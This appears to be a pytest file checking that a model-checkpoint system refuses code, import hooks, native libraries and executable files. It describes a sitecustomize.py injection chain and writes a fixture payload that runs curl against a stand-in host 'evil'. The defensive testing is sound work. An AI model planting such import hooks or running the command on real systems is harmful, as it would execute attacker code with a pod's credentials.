"""A checkpoint holds no code: sources, bytecode, import hooks, native libraries and
executables are refused wherever a checkpoint is written, verified, installed or loaded.

The chain this breaks: a job's checkpoint carries ``sitecustomize.py``, a serving target puts
the checkpoint's directory on ``PYTHONPATH`` of some pod, and that pod's interpreter imports
the file with the pod's credentials in its environment.
"""

from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path

import pytest
import torch

from services.artifacts import ArtifactStore
from services.checkpoints import install_checkpoint
from services.training.checkpoint import (
    CheckpointError,
    load_checkpoint,
    save_checkpoint,
    verify_checkpoint,
    write_manifest,
)
from services.training.tiny.model import GPT, GPTConfig

TINY = GPTConfig(max_seq_len=32, n_layer=1, n_head=2, d_model=16)
CODE = [
    "sitecustomize.py",
    "usercustomize.py",
    "sitecustomize.cpython-311.pyc",
    "sitecustomize",
    "helper.py",
    "helper.pyc",
    "hook.pth",
    "evil.so",
    "libevil.so.1",
    "evil.dylib",
    "evil.dll",
    "run.sh",
    "Modeling_Custom.PY",
]


def checkpoint(path: Path) -> Path:
    torch.manual_seed(0)
    save_checkpoint(GPT(TINY), TINY, path)
    return path


def list_in_manifest(root: Path, name: str) -> None:
    """What a forged manifest looks like: the file listed with its true hash and size."""
    manifest_path = root / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    data = (root / name).read_bytes()
    manifest["files"][name] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    manifest_path.write_text(json.dumps(manifest))


@pytest.mark.parametrize("name", CODE)
def test_a_listed_code_file_is_refused_by_verify_install_and_load(
    tmp_path: Path, name: str
) -> None:
    root = checkpoint(tmp_path / "out")
    (root / name).write_text("import os; os.system('curl evil')\n")
    list_in_manifest(root, name)
    store = ArtifactStore(tmp_path / "artifacts")

    refusal = rf"{re.escape(name)} in .* is code or an import hook"
    for attempt in (
        lambda: verify_checkpoint(root),
        lambda: install_checkpoint(root, store),
        lambda: load_checkpoint(root),
    ):
        with pytest.raises(CheckpointError, match=refusal):
            attempt()
    assert not any(path.name == name for path in (tmp_path / "artifacts").rglob("*"))


def test_code_beside_a_checkpoint_is_refused_even_unlisted(tmp_path: Path) -> None:
    root = checkpoint(tmp_path / "out")
    (root / "sitecustomize.py").write_text("import os\n")
    with pytest.raises(CheckpointError, match=r"sitecustomize\.py .*not in the manifest"):
        verify_checkpoint(root)
    (root / "sitecustomize.py").unlink()
    (root / "sitecustomize").mkdir()  # a package imports as well as a module
    with pytest.raises(CheckpointError, match="sitecustomize in"):
        verify_checkpoint(root)


def test_writing_a_manifest_refuses_code_in_the_directory(tmp_path: Path) -> None:
    """``ratchet checkpoint manifest`` / import: an HF directory with custom modeling code."""
    root = checkpoint(tmp_path / "out")
    (root / "modeling_custom.py").write_text("class Model: ...\n")
    with pytest.raises(CheckpointError, match=r"modeling_custom\.py .*code"):
        write_manifest(root, family="tiny")


def test_an_executable_file_is_refused(tmp_path: Path) -> None:
    root = checkpoint(tmp_path / "out")
    (root / "config.json").chmod(0o755)
    with pytest.raises(CheckpointError, match=r"config.json in .* is executable \(mode 755\)"):
        verify_checkpoint(root)
    with pytest.raises(CheckpointError, match="is executable"):
        write_manifest(root, family="tiny")
    (root / "config.json").chmod(0o644)
    assert verify_checkpoint(root).checkpoint_id


def test_an_installed_checkpoint_holds_only_its_listed_data_files(tmp_path: Path) -> None:
    root = checkpoint(tmp_path / "out")
    (root / "notes.txt").write_text("unlisted data is left behind, not refused\n")
    installed = install_checkpoint(root, ArtifactStore(tmp_path / "artifacts"))
    names = sorted(p.name for p in installed.target.iterdir())
    assert names == ["config.json", "manifest.json", "model.safetensors", "tokenizer.json"]
